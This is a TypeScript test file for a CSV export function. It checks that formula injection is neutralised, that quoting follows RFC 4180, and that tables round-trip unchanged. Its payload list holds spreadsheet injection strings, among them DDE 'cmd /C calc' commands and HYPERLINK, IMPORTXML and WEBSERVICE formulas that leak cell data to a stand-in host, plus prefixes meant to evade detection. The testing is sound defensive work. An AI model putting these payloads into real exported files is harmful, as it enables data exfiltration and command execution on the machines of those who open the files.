import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../lib/export/csv.ts';
import { runs } from '../runs.ts';

/** What the one cell of a table holds for a program that opens the file. */
function opened(value: string): string {
  const { data } = Papa.parse<string[]>(toCsv(['a', 'b'], [[value, 'x']]).replace(/^\ufeff/, ''), {
    delimiter: ',',
    newline: '\r\n',
  });
  return data[1]?.[0] ?? '';
}

/** A program takes a cell for a formula by its first character, some after dropping what they do not show. */
function isFormula(cell: string): boolean {
  const shown = cell.replace(/^[\p{C}\p{Z}\p{M}\s]+/u, '').normalize('NFKC');
  return /^[\t\r\n]/.test(cell) || (/^[=+\-@\u2212]/.test(shown) && !/^-\d+(\.\d+)?$/.test(cell));
}

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?leak="&A1,"click")',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '=WEBSERVICE("http://x.example")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '=DDE("cmd";"/C calc";"x")',
];
const BEFORE = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u00ad',
  '\u202e',
  '\u0000',
  ' \t ',
  "'",
  "'' ",
];
const WIDTHS: [string, string][] = [
  ['=', '＝'],
  ['+', '＋'],
  ['-', '－'],
  ['@', '＠'],
  ['=', '﹦'],
  ['+', '﹢'],
  ['-', '﹣'],
  ['@', '﹫'],
];
const variants = [...PAYLOADS, ...WIDTHS.map(([, wide]) => `${wide}1+1`)].flatMap((payload) =>
  BEFORE.map((before) => before + payload),
);

describe('toCsv', () => {
  it(`leaves no formula in ${variants.length} variants, and an apostrophe less gives the value back`, () => {
    expect(variants.length).toBeGreaterThanOrEqual(200);
    for (const value of variants) {
      const cell = opened(value);
      expect({ value, formula: isFormula(cell) }).toEqual({ value, formula: false });
      expect({ value, cell }).toEqual({ value, cell: `'${value}` });
    }
  });

  it('finds no formula behind any character that is not shown', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 3 }),
        fc.constantFrom('=', '+', '-', '@', '＝'),
        (before, sign) => {
          expect(isFormula(opened(`${before}${sign}A1`))).toBe(false);
        },
      ),
      runs(5_000),
    );
  });

  it.each([
    'plain',
    'PO 4500-012',
    '-12.5',
    '-3',
    '12',
    'a=b',
    "O'Brien",
    '',
    'x@y.example',
    'two\nlines',
    'semi;colon',
    'tab\there',
    ' spaces ',
    '"quoted"',
  ])('leaves %j as it is', (value) => {
    expect(opened(value)).toBe(value);
  });

  it('keeps negative numbers numbers, and text that begins like one text', () => {
    expect(toCsv(['n'], [[-12.5], ['-12.5'], ['-12.5a'], [null], [Number.NaN]])).toBe(
      "\ufeffn\r\n-12.5\r\n-12.5\r\n'-12.5a\r\n\r\n\r\n",
    );
  });

  it('quotes by RFC 4180, guards headings too, and begins with a byte order mark', () => {
    expect(toCsv(['a,b', '=x'], [['say "hi"', 'c\r\nd']])).toBe(
      '\ufeff"a,b",\'=x\r\n"say ""hi""","c\r\nd"\r\n',
    );
  });

  it('writes tables that read back equal', () => {
    const cell = fc
      .string({ unit: fc.constantFrom('a', ',', '"', ';', '\n', '\r', '\t', ' ', 'é'), maxLength: 6 })
      .filter((text) => !/^\s*$/.test(text) && !/^[\t\r\n]/.test(text));
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 6 }), (rows) => {
        const { data } = Papa.parse(toCsv(['a', 'b'], rows).replace(/^\ufeff/, ''), {
          delimiter: ',',
          newline: '\r\n',
          skipEmptyLines: true,
        });
        expect(data.slice(1)).toEqual(rows);
      }),
    );
  });
});
